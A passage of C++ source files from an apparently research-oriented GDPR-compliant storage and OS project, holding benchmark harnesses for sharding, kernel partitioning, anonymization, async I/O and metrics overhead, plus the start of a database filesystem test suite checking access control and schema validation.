        ok = os.RightToPortability(subject).ok();
        break;
      case workload::GdprOp::kConsentWithdrawal: {
        auto ids = os.dbfs().RecordsOfSubject(sentinel::Domain::kDed, subject);
        if (ids.ok() && !ids->empty()) {
          auto record = os.dbfs().Get(sentinel::Domain::kDed, ids->front());
          if (record.ok() && !record->erased) {
            ok = os.builtins()
                     .RevokeConsent(core::PdRef{ids->front(), "user"},
                                    "analytics")
                     .ok();
          }
        }
        break;
      }
      case workload::GdprOp::kAuditSubject:
        ok = !os.processing_log().ForSubject(subject).empty() ||
             os.processing_log().VerifyChain();
        break;
      case workload::GdprOp::kAuditPurpose: {
        auto ids = os.dbfs().RecordsOfType(sentinel::Domain::kDed, "user");
        ok = ids.ok();
        break;
      }
    }
    if (!ok) ++result.failed;

    const double wall_ns = double(watch.ElapsedNanos());
    if (fan_out) {
      // Every shard worked: its own device delta plus an even share of
      // the host CPU time.
      std::vector<double> service(shards);
      for (std::size_t s = 0; s < shards; ++s) {
        service[s] = wall_ns / double(shards) +
                     double(SimulatedDeviceNanosOfShard(os, s) -
                            sim_before[s]);
      }
      recorder.CompleteFanOut(arrival, service);
    } else {
      // Routed op: all work (wall + the home shard's device delta)
      // belongs to the owning shard. Cross-checking the other shards'
      // deltas here would always read zero by construction.
      const double service =
          wall_ns + double(SimulatedDeviceNanosOfShard(os, home) -
                           sim_before[home]);
      recorder.Complete(arrival, home, service);
    }
  }

  result.achieved_ops_s = recorder.AchievedOpsPerSec();
  result.p50_us = recorder.latency().P50Us();
  result.p99_us = recorder.latency().P99Us();
  result.p999_us = recorder.latency().P999Us();
  for (std::size_t s = 0; s < shards; ++s) {
    result.per_shard_ops_s.push_back(recorder.ServerOpsPerSec(s));
  }
  return result;
}

int Main() {
  const std::uint64_t subjects = EnvOr("RGPDOS_BENCH_SUBJECTS", 1'000'000);
  const std::uint64_t ops = EnvOr("RGPDOS_BENCH_OPS", 30'000);
  const double qps = double(EnvOr("RGPDOS_BENCH_QPS", 50'000));

  std::printf("=== shard scale-out: open-loop GDPRbench mixes ===\n");
  std::printf("subjects=%" PRIu64 " ops/role=%" PRIu64
              " target_qps=%.0f (NVMe cost model, virtual per-shard "
              "server clocks)\n\n",
              subjects, ops, qps);

  std::vector<std::pair<std::string, double>> stats;
  stats.emplace_back("subjects", double(subjects));
  stats.emplace_back("ops_per_role", double(ops));
  stats.emplace_back("target_qps", qps);

  double controller_1shard = 0;
  double controller_4shard = 0;
  for (const std::size_t shards : {1u, 2u, 4u, 8u}) {
    ScaleWorld world = MakeScaleWorld(shards, subjects);
    std::printf("--- %zu shard(s): loaded %" PRIu64 " subjects in %.1fs ---\n",
                shards, subjects, world.load_seconds);
    const std::string shard_prefix = "shards_" + std::to_string(shards);
    stats.emplace_back(shard_prefix + ".load_seconds", world.load_seconds);
    std::printf("%-12s %14s %10s %10s %10s %16s\n", "role", "achieved op/s",
                "p50 us", "p99 us", "p999 us", "per-shard op/s");
    for (const workload::OpMix& mix :
         {workload::OpMix::Controller(), workload::OpMix::Customer(),
          workload::OpMix::Regulator()}) {
      // Regulator purpose audits are full type scans (O(records) each);
      // at a million subjects the role runs a tenth of the ops so the
      // harness stays bounded. The JSON records the actual count.
      const std::uint64_t role_ops =
          mix.name() == "regulator"
              ? std::max<std::uint64_t>(ops / 10, 100)
              : ops;
      const RoleResult r =
          RunRole(*world.os, shards, subjects, mix, role_ops, qps);
      std::string per_shard;
      double min_shard = r.per_shard_ops_s.empty() ? 0 : r.per_shard_ops_s[0];
      double max_shard = min_shard;
      for (const double v : r.per_shard_ops_s) {
        min_shard = std::min(min_shard, v);
        max_shard = std::max(max_shard, v);
      }
      std::printf("%-12s %14.0f %10.1f %10.1f %10.1f %7.0f..%-7.0f\n",
                  mix.name().c_str(), r.achieved_ops_s, r.p50_us, r.p99_us,
                  r.p999_us, min_shard, max_shard);
      const std::string prefix = shard_prefix + "." + mix.name();
      stats.emplace_back(prefix + ".ops", double(role_ops));
      stats.emplace_back(prefix + ".achieved_ops_s", r.achieved_ops_s);
      stats.emplace_back(prefix + ".p50_us", r.p50_us);
      stats.emplace_back(prefix + ".p99_us", r.p99_us);
      stats.emplace_back(prefix + ".p999_us", r.p999_us);
      stats.emplace_back(prefix + ".failed_ops", double(r.failed));
      for (std::size_t s = 0; s < r.per_shard_ops_s.size(); ++s) {
        stats.emplace_back(prefix + ".shard" + std::to_string(s) + "_ops_s",
                           r.per_shard_ops_s[s]);
      }
      if (mix.name() == "controller") {
        if (shards == 1) controller_1shard = r.achieved_ops_s;
        if (shards == 4) controller_4shard = r.achieved_ops_s;
      }
    }
    std::printf("\n");
  }

  const double scaling =
      controller_1shard > 0 ? controller_4shard / controller_1shard : 0;
  std::printf("controller scaling 1 -> 4 shards: %.2fx %s\n", scaling,
              scaling >= 2.0 ? "(meets >=2x target)"
                             : "(BELOW the >=2x target)");
  stats.emplace_back("controller_scaling_4_shards", scaling);

  DumpBenchArtifact("shard_scaleout", stats);
  return 0;
}

}  // namespace
}  // namespace rgpdos::bench

int main() { return rgpdos::bench::Main(); }
