// G6 — purpose-kernel partitioning: does splitting the machine into
// sub-kernels bound interference between PD and NPD work?
//
// A steady PD job stream shares the machine with an NPD burst. In the
// SHARED configuration both streams feed one kernel (one queue); in the
// PARTITIONED configuration each stream has its own kernel with a fixed
// CPU share. We measure PD throughput during the burst, and the latency
// of a dynamic repartition.
#include <cstdio>

#include "common/clock.hpp"
#include "kernel/machine.hpp"

using namespace rgpdos;
using namespace rgpdos::kernel;

namespace {

constexpr std::uint64_t kTickBudget = 100;
constexpr std::uint64_t kTicks = 200;
constexpr std::uint64_t kPdJobCost = 5;
constexpr std::uint64_t kNpdBurstJobs = 5000;

}  // namespace

int main() {
  std::printf("=== G6: purpose-kernel partitioning under an NPD burst ===\n");

  // Interference metric: per-job completion latency of the PD stream
  // (ticks from submission to completion), before/during the NPD burst.
  struct LatencyStats {
    double mean = 0;
    std::uint64_t max = 0;
    std::uint64_t done = 0;
  };
  const auto run = [&](bool partitioned) -> LatencyStats {
    Machine machine;
    JobQueueKernel* pd_kernel;
    JobQueueKernel* npd_kernel;
    if (partitioned) {
      pd_kernel = static_cast<JobQueueKernel*>(machine.AddKernel(
          std::make_unique<JobQueueKernel>("rgpd", KernelKind::kRgpd), 1));
      npd_kernel = static_cast<JobQueueKernel*>(machine.AddKernel(
          std::make_unique<JobQueueKernel>("general",
                                           KernelKind::kGeneralPurpose),
          1));
    } else {
      pd_kernel = npd_kernel = static_cast<JobQueueKernel*>(
          machine.AddKernel(std::make_unique<JobQueueKernel>(
                                "shared", KernelKind::kGeneralPurpose),
                            1));
    }
    std::uint64_t now = 0;
    std::vector<std::uint64_t> latencies;
    for (std::uint64_t tick = 0; tick < kTicks; ++tick) {
      now = tick;
      for (int i = 0; i < 4; ++i) {
        const std::uint64_t submitted = tick;
        (void)pd_kernel->Submit({kPdJobCost, [&, submitted] {
          latencies.push_back(now - submitted);
        }});
      }
      if (tick == 50) {
        for (std::uint64_t j = 0; j < kNpdBurstJobs; ++j) {
          (void)npd_kernel->Submit({1, nullptr});
        }
      }
      machine.Tick(kTickBudget);
    }
    LatencyStats stats;
    stats.done = latencies.size();
    for (std::uint64_t latency : latencies) {
      stats.mean += double(latency);
      stats.max = std::max(stats.max, latency);
    }
    if (!latencies.empty()) stats.mean /= double(latencies.size());
    return stats;
  };

  const LatencyStats shared = run(/*partitioned=*/false);
  const LatencyStats part = run(/*partitioned=*/true);
  std::printf("%-22s %14s %18s %18s\n", "configuration", "PD jobs done",
              "mean latency(ticks)", "max latency(ticks)");
  std::printf("%-22s %14llu %18.2f %18llu\n", "shared kernel",
              static_cast<unsigned long long>(shared.done), shared.mean,
              static_cast<unsigned long long>(shared.max));
  std::printf("%-22s %14llu %18.2f %18llu\n", "partitioned (50/50)",
              static_cast<unsigned long long>(part.done), part.mean,
              static_cast<unsigned long long>(part.max));

  // ---- dynamic repartitioning: drain a PD backlog faster -------------------
  {
    Machine machine;
    auto* rgpd = static_cast<JobQueueKernel*>(machine.AddKernel(
        std::make_unique<JobQueueKernel>("rgpd", KernelKind::kRgpd), 1));
    auto* npd = static_cast<JobQueueKernel*>(machine.AddKernel(
        std::make_unique<JobQueueKernel>("general",
                                         KernelKind::kGeneralPurpose),
        1));
    for (int i = 0; i < 2000; ++i) {
      (void)rgpd->Submit({1, nullptr});
      (void)npd->Submit({1, nullptr});
    }
    std::uint64_t ticks_at_equal = 0;
    while (rgpd->Backlog() > 1000) {
      machine.Tick(kTickBudget);
      ++ticks_at_equal;
    }
    (void)machine.Repartition("rgpd", 9);  // GDPR deadline pressure: 90%
    std::uint64_t ticks_after_boost = 0;
    while (rgpd->Backlog() > 0) {
      machine.Tick(kTickBudget);
      ++ticks_after_boost;
    }
    std::printf(
        "\ndynamic repartition: first half of the PD backlog at 50%% share "
        "took %llu ticks; second half at 90%% share took %llu ticks\n",
        static_cast<unsigned long long>(ticks_at_equal),
        static_cast<unsigned long long>(ticks_after_boost));
  }

  std::printf(
      "\nexpected shape: in the shared kernel the NPD burst starves the "
      "PD stream (head-of-line blocking); the partitioned purpose-kernel "
      "keeps PD throughput at its guaranteed share, and repartitioning "
      "shifts capacity on demand.\n");
  return 0;
}
