// F1 — reproduce paper Fig. 1 from the bundled public-fine dataset:
// (left) total penalty amount per year; (right) top-5 most sanctioned
// business sectors.
#include <cstdio>

#include "penalties/penalties.hpp"

int main() {
  using namespace rgpdos::penalties;
  std::printf("=== Fig 1 (left): GDPR penalties per year ===\n");
  std::printf("%-6s %14s %s\n", "year", "total (MEUR)", "bar");
  const auto totals = TotalsByYear();
  double max_total = 0;
  for (const auto& [year, total] : totals) {
    max_total = std::max(max_total, total);
  }
  for (const auto& [year, total] : totals) {
    const int bar = static_cast<int>(50.0 * total / max_total);
    std::printf("%-6d %14.1f %.*s\n", year, total / 1e6, bar,
                "##################################################");
  }

  std::printf("\n=== Fig 1 (right): top-5 sanctioned sectors ===\n");
  std::printf("%-14s %14s %8s\n", "sector", "total (MEUR)", "fines");
  const auto by_count = TopSectorsByCount(100);
  for (const auto& [sector, amount] : TopSectorsByAmount(5)) {
    std::size_t count = 0;
    for (const auto& [s, c] : by_count) {
      if (s == sector) count = c;
    }
    std::printf("%-14s %14.1f %8zu\n", sector.c_str(), amount / 1e6, count);
  }
  std::printf(
      "\nnote: dataset approximates datalegaldrive.com's public sanction "
      "map, 2018-2022 (%zu fines).\n",
      Dataset().size());
  return 0;
}
