// G9 — the anonymization built-in: k-anonymity's privacy/utility trade.
// Sweep k over a skewed population and report how many records survive
// into the released (non-personal) dataset, plus release latency.
#include <cstdio>

#include "bench/bench_util.hpp"
#include "core/anonymize.hpp"

using namespace rgpdos;

int main() {
  std::printf("=== G9: k-anonymous release — privacy vs utility ===\n");
  std::printf("%-8s %-6s %12s %14s %14s %12s\n", "records", "k",
              "groups out", "released rec", "suppressed", "ms/release");

  for (std::size_t n : {500u, 2000u}) {
    bench::RgpdWorld world = bench::MakeRgpdWorld(n);
    core::AnonymizationSpec spec;
    // Release birth decades only; names/passwords are dropped outright.
    spec.rules["year_of_birthdate"] = core::FieldRule::Bucket(10);

    for (std::size_t k : {2u, 5u, 20u, 100u}) {
      spec.k = k;
      Stopwatch watch;
      auto result = world.os->anonymizer().Release(
          "user", spec, &world.os->npd_fs(),
          "/anon_k" + std::to_string(k) + "_" + std::to_string(n) + ".csv");
      if (!result.ok()) {
        std::fprintf(stderr, "release failed: %s\n",
                     result.status().ToString().c_str());
        return 1;
      }
      const double ms = double(watch.ElapsedNanos()) / 1e6;
      const std::size_t released =
          result->source_records - result->suppressed_records;
      std::printf("%-8zu %-6zu %12zu %14zu %14zu %12.1f\n", n, k,
                  result->released_groups, released,
                  result->suppressed_records, ms);
    }
  }
  std::printf(
      "\nexpected shape: utility (released records) falls monotonically "
      "as k rises; the decade buckets hold ~7 groups, so small k release "
      "almost everything and large k suppresses the thin decades first.\n");
  return 0;
}
