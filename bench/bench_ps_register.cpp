// G5 — ps_register cost: purpose parsing + matching against the schema
// tree, with and without mismatch alerts, as the store fills up.
// google-benchmark micro-measurements.
#include <benchmark/benchmark.h>

#include "bench/bench_util.hpp"

using namespace rgpdos;

namespace {

struct RegisterFixture {
  RegisterFixture() : world(bench::MakeRgpdWorld(4)) {}
  bench::RgpdWorld world;
};

core::ProcessingFn NoopFn() {
  return [](core::ProcessingInput&) -> Result<core::ProcessingOutput> {
    return core::ProcessingOutput{};
  };
}

void BM_PsRegisterClean(benchmark::State& state) {
  RegisterFixture fixture;
  core::ImplManifest manifest;
  manifest.claimed_purpose = "analytics";
  manifest.fields_read = {"year_of_birthdate"};
  for (auto _ : state) {
    auto id = fixture.world.os->RegisterProcessingSource(
        "purpose analytics { input: user.v_ano; }", NoopFn(), manifest);
    if (!id.ok()) state.SkipWithError("register failed");
  }
  state.SetLabel("parse + match + store");
}
BENCHMARK(BM_PsRegisterClean)->Iterations(2000);

void BM_PsRegisterWithAlert(benchmark::State& state) {
  RegisterFixture fixture;
  core::ImplManifest manifest;
  manifest.claimed_purpose = "analytics";
  manifest.fields_read = {"year_of_birthdate", "pwd"};  // out of view
  for (auto _ : state) {
    auto id = fixture.world.os->RegisterProcessingSource(
        "purpose analytics { input: user.v_ano; }", NoopFn(), manifest);
    if (!id.ok()) state.SkipWithError("register failed");
  }
  state.SetLabel("mismatch -> sysadmin alert raised");
}
BENCHMARK(BM_PsRegisterWithAlert)->Iterations(2000);

void BM_PsInvokeDispatch(benchmark::State& state) {
  // Cost of the PS dispatch + empty pipeline (0 candidate records of a
  // second type): isolates entry-point overhead from data volume.
  RegisterFixture fixture;
  core::ImplManifest manifest;
  manifest.claimed_purpose = "agecheck";
  auto id = fixture.world.os->RegisterProcessingSource(
      "purpose agecheck { input: age; }", NoopFn(), manifest);
  if (!id.ok()) std::abort();
  for (auto _ : state) {
    auto result = fixture.world.os->ps().Invoke(
        sentinel::Domain::kApplication, *id, {});
    if (!result.ok()) state.SkipWithError("invoke failed");
  }
  state.SetLabel("sentinel x2 + DED instantiation, 0 records");
}
BENCHMARK(BM_PsInvokeDispatch)->Iterations(2000);

void BM_PurposeParse(benchmark::State& state) {
  for (auto _ : state) {
    auto purpose = dsl::ParsePurpose(
        "purpose analytics { input: user.v_ano; output: age; "
        "description: \"aggregate ages\"; }");
    benchmark::DoNotOptimize(purpose);
  }
}
BENCHMARK(BM_PurposeParse);

void BM_TypeDeclParse(benchmark::State& state) {
  for (auto _ : state) {
    auto program = dsl::Parse(bench::kBenchTypes);
    benchmark::DoNotOptimize(program);
  }
}
BENCHMARK(BM_TypeDeclParse);

}  // namespace

BENCHMARK_MAIN();
