// Async block layer A/B: the same put-heavy (journal-commit-bound)
// workload swept over submission-ring depths on an NVMe cost model,
// plus a legacy whole-block-journal leg at the default depth.
//
// Two effects are measured, matching the two halves of the upgrade:
//   - ring depth: each journal commit submits its record blocks as ONE
//     ring submission, which the latency model amortises across the
//     device queue (queue_depth 16 for Nvme) — depth 0 boots with
//     async_io off, forcing queue_depth 1, the honest serialized
//     baseline;
//   - extent records: journal bytes per put collapse when only dirty
//     byte ranges are logged instead of full block images
//     (journal.write_amp in the metrics snapshot tracks the same ratio).
//
// Artifact: BENCH_async_io.json with per-depth device-normalized puts/s,
// journal bytes/put, write amplification, and the ring counters
// (blockdev.async.{submitted,completed,coalesced_flushes}).
#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "bench/bench_util.hpp"

namespace rgpdos::bench {
namespace {

constexpr std::size_t kSubjects = 8;  ///< boot population (schema warm-up)
constexpr int kPuts = 256;            ///< timed journal commits per leg

struct LegResult {
  double puts_per_sec = 0;  ///< device-normalized
  double journal_bytes_per_put = 0;
  double write_amp = 0;  ///< journal bytes / logical record bytes
  double coalesced_flushes = 0;
  double ops_submitted = 0;
};

LegResult RunLeg(std::size_t ring_depth, bool journal_extents) {
  RgpdWorld world = MakeRgpdWorld(
      kSubjects, /*per_subject=*/1, /*consent_fraction=*/1.0,
      /*worker_threads=*/1, [&](core::BootConfig& config) {
        config.latency = blockdev::LatencyProfile::Nvme();
        config.cache_blocks = 0;
        config.cache_record_entries = 0;
        config.cache_decisions = false;
        config.async_io = ring_depth != 0;
        config.ring_depth = ring_depth == 0 ? 16 : ring_depth;
        config.journal_extents = journal_extents;
        // More room: the timed loop adds kPuts records on top of the
        // boot population.
        config.dbfs_blocks += kPuts * 14;
        config.inode_count += kPuts * 6;
      });
  auto& os = *world.os;
  const dsl::TypeDecl decl = BenchUserDecl();

  const std::uint64_t journal_before = os.dbfs_store().journal().bytes_logged();
  const auto logical_counter = [&]() -> double {
    const auto snapshot = metrics::MetricsRegistry::Instance().Snapshot();
    const std::uint64_t* v = snapshot.FindCounter("dbfs.put.logical_bytes");
    return v != nullptr ? double(*v) : 0.0;
  };
  const double logical_before = logical_counter();
  const std::uint64_t sim_before = SimulatedDeviceNanos(os);
  blockdev::AsyncDeviceStats async_before;
  if (auto* async = os.dbfs_async()) async_before = async->async_stats();

  const auto start = std::chrono::steady_clock::now();
  for (int i = 0; i < kPuts; ++i) {
    const auto subject = static_cast<dbfs::SubjectId>(1 + i % kSubjects);
    membrane::Membrane m = decl.DefaultMembrane(subject, os.clock().Now());
    auto id = os.dbfs().Put(
        sentinel::Domain::kDed, subject, "user",
        db::Row{db::Value(std::string("name") + std::to_string(i)),
                db::Value(std::string("pw")),
                db::Value(std::int64_t(1960 + i % 60))},
        std::move(m));
    if (!id.ok()) {
      std::fprintf(stderr, "put failed: %s\n", id.status().ToString().c_str());
      std::abort();
    }
  }
  const double wall_ns =
      std::chrono::duration<double, std::nano>(
          std::chrono::steady_clock::now() - start)
          .count();
  const double sim_ns = double(SimulatedDeviceNanos(os) - sim_before);

  LegResult leg;
  leg.puts_per_sec = double(kPuts) / ((wall_ns + sim_ns) / 1e9);
  leg.journal_bytes_per_put =
      double(os.dbfs_store().journal().bytes_logged() - journal_before) /
      double(kPuts);
  const double logical = logical_counter() - logical_before;
  leg.write_amp = logical > 0
                      ? leg.journal_bytes_per_put * double(kPuts) / logical
                      : 0;
  if (auto* async = os.dbfs_async()) {
    const blockdev::AsyncDeviceStats stats = async->async_stats();
    leg.coalesced_flushes =
        double(stats.coalesced_flushes - async_before.coalesced_flushes);
    leg.ops_submitted =
        double(stats.ops_submitted - async_before.ops_submitted);
  }
  return leg;
}

int Main() {
  std::vector<std::pair<std::string, double>> stats;
  stats.emplace_back("puts", double(kPuts));

  std::printf("=== async ring-depth sweep, put workload (NVMe cost model) "
              "===\n");
  std::printf("%-14s %14s %16s %11s %12s %12s\n", "leg", "puts/s(dev)",
              "jnl bytes/put", "write_amp", "coalesced", "ring ops");
  double sync_pps = 0;
  double deep_pps = 0;
  double extent_bpp = 0;
  for (const std::size_t depth : {std::size_t(0), std::size_t(1),
                                  std::size_t(4), std::size_t(16),
                                  std::size_t(32)}) {
    const LegResult leg = RunLeg(depth, /*journal_extents=*/true);
    const std::string name =
        depth == 0 ? "sync" : "depth_" + std::to_string(depth);
    std::printf("%-14s %14.0f %16.0f %10.2fx %12.0f %12.0f\n", name.c_str(),
                leg.puts_per_sec, leg.journal_bytes_per_put, leg.write_amp,
                leg.coalesced_flushes, leg.ops_submitted);
    stats.emplace_back(name + ".puts_per_sec", leg.puts_per_sec);
    stats.emplace_back(name + ".journal_bytes_per_put",
                       leg.journal_bytes_per_put);
    stats.emplace_back(name + ".write_amp", leg.write_amp);
    stats.emplace_back(name + ".coalesced_flushes", leg.coalesced_flushes);
    stats.emplace_back(name + ".ops_submitted", leg.ops_submitted);
    if (depth == 0) sync_pps = leg.puts_per_sec;
    if (depth == 16) {
      deep_pps = leg.puts_per_sec;
      extent_bpp = leg.journal_bytes_per_put;
    }
  }
  const LegResult legacy = RunLeg(16, /*journal_extents=*/false);
  std::printf("%-14s %14.0f %16.0f %10.2fx %12.0f %12.0f\n", "legacy_d16",
              legacy.puts_per_sec, legacy.journal_bytes_per_put,
              legacy.write_amp, legacy.coalesced_flushes,
              legacy.ops_submitted);
  stats.emplace_back("legacy_d16.puts_per_sec", legacy.puts_per_sec);
  stats.emplace_back("legacy_d16.journal_bytes_per_put",
                     legacy.journal_bytes_per_put);
  stats.emplace_back("legacy_d16.write_amp", legacy.write_amp);

  const double ring_speedup = sync_pps > 0 ? deep_pps / sync_pps : 0;
  const double extent_ratio =
      extent_bpp > 0 ? legacy.journal_bytes_per_put / extent_bpp : 0;
  std::printf("ring speedup (depth 16 / sync): %.2fx\n", ring_speedup);
  std::printf("extent journal shrink (legacy / extent bytes per put): "
              "%.1fx\n",
              extent_ratio);
  stats.emplace_back("ring_speedup_depth16", ring_speedup);
  stats.emplace_back("extent_vs_legacy_bytes_ratio", extent_ratio);

  DumpBenchArtifact("async_io", stats);
  return 0;
}

}  // namespace
}  // namespace rgpdos::bench

int main() { return rgpdos::bench::Main(); }
