// Overhead of the metrics/tracing macros on the enforcement hot path.
// The contract (DESIGN: near-zero-cost when disabled) is that a disabled
// call site costs exactly one relaxed atomic load — no locks, no clock
// reads, no allocation. Compare the *Disabled benchmarks against
// BM_RelaxedAtomicLoadFloor to check the claim.
#include <benchmark/benchmark.h>

#include <atomic>

#include "metrics/metrics.hpp"
#include "metrics/trace.hpp"

using namespace rgpdos;

namespace {

// The theoretical floor a disabled macro must match.
std::atomic<bool> g_floor_flag{false};
void BM_RelaxedAtomicLoadFloor(benchmark::State& state) {
  for (auto _ : state) {
    bool value = g_floor_flag.load(std::memory_order_relaxed);
    benchmark::DoNotOptimize(value);
  }
  state.SetLabel("one relaxed load: the disabled-path budget");
}
BENCHMARK(BM_RelaxedAtomicLoadFloor);

void BM_CounterIncEnabled(benchmark::State& state) {
  metrics::SetEnabled(true);
  for (auto _ : state) {
    RGPD_METRIC_COUNT("bench.overhead.counter");
  }
  state.SetLabel("relaxed load + cached ref + relaxed fetch_add");
}
BENCHMARK(BM_CounterIncEnabled);

void BM_CounterIncDisabled(benchmark::State& state) {
  metrics::SetEnabled(false);
  for (auto _ : state) {
    RGPD_METRIC_COUNT("bench.overhead.counter_off");
  }
  metrics::SetEnabled(true);
  state.SetLabel("should match the relaxed-load floor");
}
BENCHMARK(BM_CounterIncDisabled);

void BM_HistogramObserveEnabled(benchmark::State& state) {
  metrics::SetEnabled(true);
  std::uint64_t v = 0;
  for (auto _ : state) {
    RGPD_METRIC_OBSERVE("bench.overhead.hist", v++ % 4096);
  }
  state.SetLabel("bucket search + two relaxed fetch_adds");
}
BENCHMARK(BM_HistogramObserveEnabled);

void BM_HistogramObserveDisabled(benchmark::State& state) {
  metrics::SetEnabled(false);
  std::uint64_t v = 0;
  for (auto _ : state) {
    RGPD_METRIC_OBSERVE("bench.overhead.hist_off", v++ % 4096);
  }
  metrics::SetEnabled(true);
}
BENCHMARK(BM_HistogramObserveDisabled);

void BM_ScopedLatencyEnabled(benchmark::State& state) {
  metrics::SetEnabled(true);
  for (auto _ : state) {
    RGPD_METRIC_SCOPED_LATENCY("bench.overhead.latency");
  }
  state.SetLabel("two steady_clock reads + one Observe");
}
BENCHMARK(BM_ScopedLatencyEnabled);

void BM_ScopedLatencyDisabled(benchmark::State& state) {
  metrics::SetEnabled(false);
  for (auto _ : state) {
    RGPD_METRIC_SCOPED_LATENCY("bench.overhead.latency_off");
  }
  metrics::SetEnabled(true);
  state.SetLabel("no clock reads on the disabled path");
}
BENCHMARK(BM_ScopedLatencyDisabled);

void BM_SpanSampled(benchmark::State& state) {
  metrics::SetEnabled(true);
  metrics::MetricsRegistry::Instance().tracer().SetSampleEvery(
      "bench_overhead", 1024);
  for (auto _ : state) {
    RGPD_TRACE_SPAN("bench_overhead", "op");
  }
  state.SetLabel("1-in-1024 sampling: seq fetch_add dominates");
}
BENCHMARK(BM_SpanSampled);

void BM_SpanDisabled(benchmark::State& state) {
  metrics::SetEnabled(false);
  for (auto _ : state) {
    RGPD_TRACE_SPAN("bench_overhead_off", "op");
  }
  metrics::SetEnabled(true);
}
BENCHMARK(BM_SpanDisabled);

void BM_CounterIncEnabledThreaded(benchmark::State& state) {
  // Contended increments on one cache line: the worst realistic case.
  for (auto _ : state) {
    RGPD_METRIC_COUNT("bench.overhead.contended");
  }
}
BENCHMARK(BM_CounterIncEnabledThreaded)->Threads(4);

}  // namespace

BENCHMARK_MAIN();
