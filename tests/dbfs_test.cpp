// DBFS tests: schema tree, subject tree, membrane-attachment invariant,
// gated access, mount-time index rebuild, erasure paths, and copy groups.
#include <gtest/gtest.h>

#include "blockdev/block_device.hpp"
#include "dbfs/dbfs.hpp"
#include "dsl/parser.hpp"

namespace rgpdos::dbfs {
namespace {

constexpr sentinel::Domain kDed = sentinel::Domain::kDed;
constexpr sentinel::Domain kSysadmin = sentinel::Domain::kSysadmin;
constexpr sentinel::Domain kApp = sentinel::Domain::kApplication;

constexpr std::string_view kUserType = R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  view v_ano { year_of_birthdate };
  consent { purpose1: all, purpose3: v_ano };
  origin: subject;
  sensitivity: high;
}
)";

class DbfsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    device_ = std::make_unique<blockdev::MemBlockDevice>(512, 8192);
    inodefs::InodeStore::Options options;
    options.inode_count = 512;
    options.journal_blocks = 128;
    auto store = inodefs::InodeStore::Format(device_.get(), options, &clock_);
    ASSERT_TRUE(store.ok());
    store_ = std::move(store).value();
    sentinel_ = std::make_unique<sentinel::Sentinel>(
        sentinel::SecurityPolicy::RgpdDefault(), &clock_, &audit_);
    auto fs = Dbfs::Format(store_.get(), sentinel_.get(), &clock_);
    ASSERT_TRUE(fs.ok()) << fs.status().ToString();
    fs_ = std::move(fs).value();
    auto decl = dsl::ParseType(kUserType);
    ASSERT_TRUE(decl.ok());
    user_decl_ = *decl;
    ASSERT_TRUE(fs_->CreateType(kSysadmin, user_decl_).ok());
  }

  Result<RecordId> PutUser(SubjectId subject, const std::string& name,
                           std::int64_t year) {
    membrane::Membrane m = user_decl_.DefaultMembrane(subject, clock_.Now());
    db::Row row{db::Value(name), db::Value(std::string("pw")),
                db::Value(year)};
    return fs_->Put(kDed, subject, "user", row, std::move(m));
  }

  SimClock clock_{1000};
  sentinel::AuditSink audit_;
  std::unique_ptr<blockdev::MemBlockDevice> device_;
  std::unique_ptr<inodefs::InodeStore> store_;
  std::unique_ptr<sentinel::Sentinel> sentinel_;
  std::unique_ptr<Dbfs> fs_;
  dsl::TypeDecl user_decl_;
};

TEST_F(DbfsTest, TypeAdministration) {
  EXPECT_EQ(fs_->TypeNames(), std::vector<std::string>{"user"});
  // Duplicate type rejected.
  EXPECT_EQ(fs_->CreateType(kSysadmin, user_decl_).code(),
            StatusCode::kAlreadyExists);
  // Applications cannot create types.
  EXPECT_EQ(fs_->CreateType(kApp, user_decl_).code(),
            StatusCode::kAccessBlocked);
  auto type = fs_->GetType(kDed, "user");
  ASSERT_TRUE(type.ok());
  EXPECT_EQ((*type)->name, "user");
  EXPECT_FALSE(fs_->GetType(kDed, "nope").ok());
}

TEST_F(DbfsTest, PutGetRoundTrip) {
  auto id = PutUser(1, "alice", 1990);
  ASSERT_TRUE(id.ok()) << id.status().ToString();
  auto record = fs_->Get(kDed, *id);
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(record->subject_id, 1u);
  EXPECT_EQ(record->type_name, "user");
  EXPECT_EQ(*record->row[0].AsString(), "alice");
  EXPECT_EQ(*record->row[2].AsInt(), 1990);
  EXPECT_EQ(record->membrane.subject_id, 1u);
  EXPECT_FALSE(record->erased);
  EXPECT_EQ(fs_->record_count(), 1u);
  EXPECT_EQ(fs_->subject_count(), 1u);
}

TEST_F(DbfsTest, MembraneAttachmentInvariant) {
  // Rule (3): a membrane naming the wrong type or subject is rejected —
  // and there is no membrane-less Put at all.
  membrane::Membrane wrong_type = user_decl_.DefaultMembrane(1, 0);
  wrong_type.type_name = "other";
  db::Row row{db::Value(std::string("x")), db::Value(std::string("y")),
              db::Value(std::int64_t{1990})};
  EXPECT_EQ(fs_->Put(kDed, 1, "user", row, wrong_type).status().code(),
            StatusCode::kFailedPrecondition);
  membrane::Membrane wrong_subject = user_decl_.DefaultMembrane(2, 0);
  EXPECT_EQ(fs_->Put(kDed, 1, "user", row, wrong_subject).status().code(),
            StatusCode::kFailedPrecondition);
}

TEST_F(DbfsTest, PutValidatesRowAgainstSchema) {
  membrane::Membrane m = user_decl_.DefaultMembrane(1, 0);
  EXPECT_FALSE(
      fs_->Put(kDed, 1, "user", db::Row{db::Value(std::int64_t{1})}, m)
          .ok());
  EXPECT_FALSE(fs_->Put(kDed, 1, "nosuch", db::Row{}, m).ok());
}

TEST_F(DbfsTest, AccessControlOnEveryEntryPoint) {
  auto id = PutUser(1, "alice", 1990);
  ASSERT_TRUE(id.ok());
  EXPECT_EQ(fs_->Get(kApp, *id).status().code(), StatusCode::kAccessBlocked);
  EXPECT_EQ(fs_->GetMembrane(kApp, *id).status().code(),
            StatusCode::kAccessBlocked);
  EXPECT_EQ(fs_->HardDelete(kApp, *id).code(), StatusCode::kAccessBlocked);
  EXPECT_EQ(fs_->RecordsOfSubject(kApp, 1).status().code(),
            StatusCode::kAccessBlocked);
  EXPECT_EQ(fs_->ExportSubject(kApp, 1).status().code(),
            StatusCode::kAccessBlocked);
  EXPECT_EQ(
      fs_->Put(kApp, 1, "user", db::Row{}, membrane::Membrane{}).status()
          .code(),
      StatusCode::kAccessBlocked);
  // The sysadmin can read schemas but not records.
  EXPECT_TRUE(fs_->GetType(kSysadmin, "user").ok());
  EXPECT_EQ(fs_->Get(kSysadmin, *id).status().code(),
            StatusCode::kAccessBlocked);
}

TEST_F(DbfsTest, UpdateRowScrubsOldVersion) {
